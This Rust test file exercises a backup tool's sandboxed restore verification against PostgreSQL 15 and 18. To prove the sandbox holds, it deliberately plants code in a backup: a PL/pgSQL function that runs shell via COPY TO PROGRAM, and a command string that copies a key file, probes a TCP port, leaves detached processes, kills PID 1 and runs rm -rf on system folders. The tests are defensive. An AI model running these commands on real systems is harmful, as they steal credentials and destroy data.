//! `verify --level restored` by the real binary: what it proves, what code in a backup can do, and what it leaves behind.

use std::io::{BufRead as _, BufReader};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::support::postgres::{Major, Setup, TestServer};

/// Rows of many widths, in a zone of its own: a restored server stores some of them in another order.
const SHOP: &str = r#"
CREATE TABLE "odd ""name""" (id int PRIMARY KEY, t text, at timestamptz);
INSERT INTO "odd ""name""" SELECT g, repeat(md5(g::text), g * 7919 % 60), '2025-03-30 01:30+00'::timestamptz + g * interval '1 h'
  FROM generate_series(1, 20000) g;
CREATE TABLE none (); INSERT INTO none DEFAULT VALUES;
CREATE TABLE t (id int, v text); INSERT INTO t VALUES (1, 'one'), (2, 'two');
CREATE TABLE mode (how text); INSERT INTO mode VALUES ('');
SELECT lo_from_bytea(4242, '\xdeadbeef');
"#;

/// Runs while the backup is loaded, as the owner of everything; on the server that was captured it does nothing.
const ATTACK: &str = r#"
CREATE FUNCTION public.attack() RETURNS int LANGUAGE plpgsql AS $$
DECLARE what text;
BEGIN
  IF current_setting('listen_addresses') <> '' THEN RETURN 0; END IF;
  SELECT how INTO what FROM public.mode;
  CASE what
    WHEN '' THEN NULL;
    WHEN 'sleep' THEN PERFORM pg_sleep(600);
    WHEN 'fewer' THEN DELETE FROM public.t WHERE id = 1;
    WHEN 'other' THEN UPDATE public.t SET v = 'changed' WHERE id = 1;
    ELSE EXECUTE 'COPY (SELECT 1) TO PROGRAM ' || quote_literal(what);
  END CASE;
  RETURN 1;
END $$;
CREATE MATERIALIZED VIEW seen AS SELECT public.attack();
"#;

struct Rehearsal {
    server: TestServer,
    folder: tempfile::TempDir,
    lifeboat: PathBuf,
}

impl Rehearsal {
    fn new(major: Major) -> Option<Self> {
        let zone = vec!["timezone=Europe/Berlin".to_owned()];
        let server = TestServer::start_with(Setup { settings: zone, ..Setup::new(major) })?;
        server.sql("postgres", "CREATE ROLE app LOGIN PASSWORD 'x'; ");
        server.sql("postgres", "CREATE DATABASE shop OWNER app");
        server.sql("shop", SHOP);
        server.sql("shop", ATTACK);
        let folder = tempfile::tempdir().unwrap();
        open_to_all(folder.path(), 0o755);
        std::fs::create_dir(folder.path().join("tmp")).unwrap();
        let this = Self { server, folder, lifeboat: env!("CARGO_BIN_EXE_lifeboat").into() };
        let url = format!("file://{}", this.path("repo").display());
        ok(&this.run(&["init", &url, "--generate-keys", "keys"]));
        this.tools(&this.server.bin);
        Some(this)
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    /// Writes the policy anew, with the server's programs in that folder.
    fn tools(&self, bin: &Path) {
        let policy = std::fs::read_to_string(self.path("keys/policy.yaml")).unwrap();
        let (head, _) = policy.split_once("  sources:").unwrap();
        let (port, bin) = (self.server.port, bin.display());
        let source = format!(
            "  sources:\n  - name: postgres\n    postgres: {{host: 127.0.0.1, port: {port}, user: postgres, password: {{env: PGPASSWORD}}, databases: all, tls: {{mode: disable}}, tools: [{bin}]}}\n"
        );
        std::fs::write(self.path("keys/policy.yaml"), format!("{head}{source}")).unwrap();
    }

    /// lifeboat, perhaps behind other words, with everything set that a person would have set.
    fn command(&self, wrapper: &[&str], args: &[&str]) -> Command {
        let lifeboat = self.lifeboat.to_str().unwrap();
        let words: Vec<&str> = wrapper.iter().copied().chain([lifeboat]).chain(args.iter().copied()).collect();
        let mut command = Command::new(words[0]);
        command.args(&words[1..]).current_dir(self.folder.path());
        command.env("TMPDIR", self.path("tmp")).env("PGPASSWORD", &self.server.password);
        // `init` makes the policy that the others read.
        if args[0] != "init" {
            command.env("LIFEBOAT_POLICY", self.path("keys/policy.yaml"));
            command.env("LIFEBOAT_IDENTITY", self.path("keys/identity.txt"));
        }
        command
    }

    fn run(&self, args: &[&str]) -> Output {
        self.command(&[], args).output().unwrap()
    }

    /// Backs up with that attack in it.
    fn backup(&self, attack: &str) {
        self.server.sql("shop", &format!("UPDATE mode SET how = $x${attack}$x$"));
        ok(&self.run(&["backup"]));
    }

    fn verify(&self, more: &[&str]) -> Output {
        self.run(&[&["verify", "latest", "--level", "restored"], more].concat())
    }

    /// Nothing is left of any sandbox: no folder, no process that ever heard of it.
    fn assert_clean(&self) {
        let left: Vec<_> = std::fs::read_dir(self.path("tmp")).unwrap().map(|entry| entry.unwrap().path()).collect();
        assert!(left.is_empty(), "left behind: {left:?}");
        assert_eq!(processes(self.path("tmp").to_str().unwrap()), Vec::<i32>::new());
    }
}

fn open_to_all(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn text(output: &Output) -> String {
    let (out, err) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    format!("{}\n{out}\n{err}", output.status)
}

fn ok(output: &Output) -> String {
    assert!(output.status.success(), "{}", text(output));
    String::from_utf8(output.stdout.clone()).unwrap()
}

fn fails(output: &Output, code: i32, words: &[&str]) {
    let said = text(output);
    assert_eq!(output.status.code(), Some(code), "{said}");
    for word in words {
        assert!(said.contains(word), "{word:?} is not in: {said}");
    }
}

/// Processes whose command line holds that text.
fn processes(needle: &str) -> Vec<i32> {
    let numbers = std::fs::read_dir("/proc").unwrap().flatten();
    let numbers = numbers.filter_map(|entry| entry.file_name().to_str()?.parse::<i32>().ok());
    let holds = |pid: &i32| {
        let line = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        String::from_utf8_lossy(&line).replace('\0', " ").contains(needle)
    };
    numbers.filter(holds).collect()
}

fn kill(pid: i32, signal: rustix::process::Signal) {
    rustix::process::kill_process(rustix::process::Pid::from_raw(pid).unwrap(), signal).unwrap();
}

fn until(what: &str, mut holds: impl FnMut() -> bool) {
    let began = Instant::now();
    while !holds() {
        assert!(began.elapsed() < Duration::from_secs(60), "not within a minute: {what}");
        std::thread::yield_now();
        std::thread::park_timeout(Duration::from_millis(20));
    }
}

fn is_root() -> bool {
    rustix::process::geteuid().is_root()
}

fn proves_on(major: Major, version: &str) {
    let Some(rehearsal) = Rehearsal::new(major) else { return };
    rehearsal.backup("");
    let report: Value = serde_json::from_str(&ok(&rehearsal.verify(&["--json"]))).unwrap();
    let backup = &report["backups"][0];
    assert_eq!((&backup["outcome"], &backup["reached"]), (&"passed".into(), &"restored".into()));
    assert_eq!(backup["captures"][0]["rows"], 20_004);
    assert_eq!(backup["weakened_by"], serde_json::json!([]));
    let said = backup["findings"][0]["message"].as_str().unwrap();
    assert!(said.contains("equal byte for byte") && !said.contains("counted"), "{said}");
    rehearsal.assert_clean();

    let shown: Value = serde_json::from_str(&ok(&rehearsal.run(&["proof", "show", "latest", "--json"]))).unwrap();
    let proof = &shown["statement"]["predicate"];
    assert_eq!((&proof["level"], &proof["passed"]), (&"restored".into(), &true.into()));
    let tools: Vec<&str> = proof["tools"].as_array().unwrap().iter().map(|tool| tool.as_str().unwrap()).collect();
    assert_eq!(
        tools.iter().map(|tool| tool.split(' ').next().unwrap()).collect::<Vec<_>>(),
        ["postgres", "pg_restore", "pg_dump"]
    );
    assert!(tools.iter().all(|tool| tool.split(' ').nth(1).unwrap().starts_with(version)), "{tools:?}");
    let steps = proof["captures"][0]["steps"].as_array().unwrap();
    let steps: Vec<&str> = steps.iter().map(|step| step["step"].as_str().unwrap()).collect();
    for step in ["start", "globals", "load stream 1", "load stream 2", "load stream 3", "compare", "stop"] {
        assert!(steps.contains(&format!("restored: {step}").as_str()), "{step} is not in {steps:?}");
    }
    assert!(steps.contains(&"restored"));
    let plain = shown["statement"].to_string();
    assert!(!plain.contains("shop"), "a proof is stored in clear: {plain}");
    assert!(ok(&rehearsal.run(&["list"])).contains("restored"));
    ok(&rehearsal.run(&["proof", "verify", "latest"]));
}

#[test]
fn a_rehearsal_on_postgres_15_proves_every_row() {
    proves_on(Major::Fifteen, "15.");
}

#[test]
fn a_rehearsal_on_postgres_18_proves_every_row() {
    proves_on(Major::Eighteen, "18.");
}

/// Code in the backup changes what was loaded: every stored byte is right, and only a rehearsal shows it.
#[test]
fn what_differs_after_loading_is_damage_and_named() {
    let Some(rehearsal) = Rehearsal::new(Major::Fifteen) else { return };
    rehearsal.backup("other");
    ok(&rehearsal.run(&["verify", "latest", "--level", "opened"]));
    let words = ["database \"shop\": table \"public\".\"t\" holds other values", "still proved: opened"];
    fails(&rehearsal.verify(&[]), 4, &words);
    assert!(ok(&rehearsal.run(&["list"])).contains("opened"));
    rehearsal.backup("fewer");
    fails(&rehearsal.verify(&[]), 4, &["table \"public\".\"t\" has 1 rows after loading, 2 were captured"]);
    rehearsal.assert_clean();
}

/// A way out for each thing that code in a backup may try.
struct Traps {
    outside: tempfile::TempDir,
    calls: Arc<AtomicU32>,
    port: u16,
    marker: String,
}

impl Traps {
    fn new() -> Self {
        let outside = tempfile::tempdir().unwrap();
        open_to_all(outside.path(), 0o777);
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let calls = Arc::new(AtomicU32::new(0));
        let heard = calls.clone();
        std::thread::spawn(move || listener.incoming().for_each(|_| _ = heard.fetch_add(1, Ordering::SeqCst)));
        let marker = format!("9{port}{}", std::process::id());
        Traps { outside, calls, port, marker }
    }

    fn program(&self, identity: &Path) -> String {
        let (outside, port, marker) = (self.outside.path().display(), self.port, &self.marker);
        let identity = identity.display();
        format!(
            "touch {outside}/ran; cat {identity} >{outside}/identity; ls /root >{outside}/root; \
             bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}'; (setsid sleep {marker} >/dev/null 2>&1 &); \
             (setsid sh -c 'sleep {marker} & sleep {marker}' >/dev/null 2>&1 &); \
             kill -9 1; rm -rf /usr /etc /root; true"
        )
    }
}

#[test]
fn code_in_a_backup_neither_gets_out_nor_survives() {
    let Some(rehearsal) = Rehearsal::new(Major::Fifteen) else { return };
    let traps = Traps::new();
    let program = traps.program(&rehearsal.path("keys/identity.txt"));
    rehearsal.backup(&program);
    ok(&rehearsal.verify(&[]));
    let found: Vec<_> = std::fs::read_dir(traps.outside.path()).unwrap().collect();
    assert!(found.is_empty(), "it reached our files: {found:?}");
    assert_eq!(traps.calls.load(Ordering::SeqCst), 0, "it reached the network");
    assert_eq!(processes(&traps.marker), Vec::<i32>::new(), "it lives on");
    rehearsal.assert_clean();
}

/// The same code, where the machine offers no isolation: refused, and if the person insists, said in the proof. It also
/// shows that the test above tests something.
#[test]
fn without_isolation_it_is_refused_or_said() {
    if !is_root() {
        eprintln!("LEFT OUT: only root can take namespaces away from the program");
        return;
    }
    let Some(rehearsal) = Rehearsal::new(Major::Fifteen) else { return };
    open_to_all(&rehearsal.path("tmp"), 0o755);
    let traps = Traps::new();
    let identity = rehearsal.path("keys/identity.txt");
    rehearsal.backup(&traps.program(&identity).replace("kill -9 1; rm -rf /usr /etc /root; ", ""));
    let verify = ["verify", "latest", "--level", "restored"];
    let powerless = ["setpriv", "--bounding-set=-sys_admin", "--inh-caps=-all", "--"];
    let refused = rehearsal.command(&powerless, &verify).output().unwrap();
    fails(&refused, 5, &["no isolation", "--weak-sandbox"]);
    assert!(!traps.outside.path().join("ran").exists(), "refused, and yet loaded");
    let weak = rehearsal.command(&powerless, &[&verify[..], &["--weak-sandbox"]].concat()).output().unwrap();
    for pid in processes(&traps.marker) {
        kill(pid, rustix::process::Signal::KILL);
    }
    assert!(ok(&weak).contains("weaker than asked"), "{}", text(&weak));
    assert!(traps.outside.path().join("ran").exists() && traps.calls.load(Ordering::SeqCst) > 0);
    assert_eq!(std::fs::read(traps.outside.path().join("identity")).unwrap(), b"", "another user's file");
    let shown: Value = serde_json::from_str(&ok(&rehearsal.run(&["proof", "show", "latest", "--json"]))).unwrap();
    let weakened = shown["statement"]["predicate"]["weakened_by"][0].as_str().unwrap();
    assert!(weakened.contains("without namespaces"), "{weakened}");
    rehearsal.assert_clean();
}

#[test]
fn a_sandbox_that_takes_too_much_is_ended() {
    let Some(rehearsal) = Rehearsal::new(Major::Fifteen) else { return };
    rehearsal.backup("sleep");
    fails(&rehearsal.verify(&["--sandbox-timeout", "8s"]), 3, &["it was not done after 8 s", "--sandbox-timeout"]);
    rehearsal.assert_clean();
    rehearsal.backup("head -c 1500000000 /dev/zero >../tmp/filler; sleep 600");
    fails(&rehearsal.verify(&["--sandbox-timeout", "5m"]), 3, &["of disk"]);
    rehearsal.assert_clean();
}

/// Starts a rehearsal that hangs while it loads.
fn hanging(rehearsal: &Rehearsal) -> Child {
    let mut command = rehearsal.command(&[], &["verify", "latest", "--level", "restored"]);
    let mut child = command.stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap();
    let mut lines = BufReader::new(child.stderr.take().unwrap()).lines().map_while(Result::ok);
    assert!(lines.any(|line| line.contains("load db/shop")), "it never began to load");
    std::thread::spawn(move || lines.for_each(drop));
    until("the code in the backup runs", || !processes("REFRESH MATERIALIZED VIEW").is_empty());
    child
}

#[test]
fn a_killed_run_leaves_no_process_and_the_next_one_removes_its_folder() {
    let Some(rehearsal) = Rehearsal::new(Major::Fifteen) else { return };
    rehearsal.backup("sleep");
    let tmp = rehearsal.path("tmp");
    let mut child = hanging(&rehearsal);
    child.kill().unwrap();
    child.wait().unwrap();
    until("everything ends", || processes(tmp.to_str().unwrap()).is_empty());
    assert_eq!(std::fs::read_dir(&tmp).unwrap().count(), 1, "nobody could remove it");

    let mut child = hanging(&rehearsal);
    assert_eq!(std::fs::read_dir(&tmp).unwrap().count(), 1, "the dead one's is gone, the living one's is there");
    rehearsal.server.sql("shop", "UPDATE mode SET how = ''");
    ok(&rehearsal.run(&["backup"]));
    ok(&rehearsal.verify(&[]));
    assert_eq!(child.try_wait().unwrap(), None, "one run does not disturb another");
    kill(i32::try_from(child.id()).unwrap(), rustix::process::Signal::INT);
    assert_eq!(child.wait().unwrap().code(), Some(130));
    rehearsal.assert_clean();
}

#[test]
fn missing_server_programs_and_users_are_named() {
    let Some(rehearsal) = Rehearsal::new(Major::Eighteen) else { return };
    rehearsal.backup("");
    // Client tools only.
    let bin = tempfile::tempdir().unwrap();
    for tool in ["pg_dump", "pg_dumpall", "pg_restore", "psql"] {
        std::os::unix::fs::symlink(rehearsal.server.bin.join(tool), bin.path().join(tool)).unwrap();
    }
    rehearsal.tools(bin.path());
    let words = ["PostgreSQL 18 (initdb, postgres) were not found", "apt-get install postgresql-18", "postgres.tools"];
    fails(&rehearsal.verify(&[]), 3, &words);
    if is_root() {
        fails(&rehearsal.verify(&["--sandbox-user", "nobody-at-all"]), 5, &["nobody-at-all", "useradd --system"]);
        fails(&rehearsal.verify(&["--sandbox-user", "root"]), 5, &["is root"]);
    }
    rehearsal.assert_clean();
}

/// An ordinary user rehearses too, where the kernel lets it make namespaces.
#[test]
fn an_ordinary_user_rehearses_too() {
    if !is_root() {
        eprintln!("LEFT OUT: not root, so the other tests of this module are this one");
        return;
    }
    for major in [Major::Fifteen, Major::Eighteen] {
        let Some(mut rehearsal) = Rehearsal::new(major) else { return };
        let traps = Traps::new();
        let program = traps.program(&rehearsal.path("keys/identity.txt"));
        rehearsal.backup(&program);
        // The build folder may be root's own: the program gets another name outside of it.
        let binary = rehearsal.path("lifeboat");
        if std::fs::hard_link(&rehearsal.lifeboat, &binary).is_err() {
            std::fs::copy(&rehearsal.lifeboat, &binary).unwrap();
        }
        open_to_all(&binary, 0o755);
        rehearsal.lifeboat = binary;
        let given = Command::new("chown").args(["-R", "nobody:nogroup"]).arg(rehearsal.folder.path()).status().unwrap();
        assert!(given.success());
        let nobody = ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups", "--"];
        let verify = ["verify", "latest", "--level", "restored"];
        let verified = rehearsal.command(&nobody, &verify).output().unwrap();
        assert!(!ok(&verified).contains("weaker"), "{}", text(&verified));
        assert_eq!(std::fs::read_dir(traps.outside.path()).unwrap().count(), 0, "it reached our files");
        assert_eq!(traps.calls.load(Ordering::SeqCst), 0, "it reached the network");
        assert_eq!(processes(&traps.marker), Vec::<i32>::new(), "it lives on");
        rehearsal.assert_clean();
    }
}
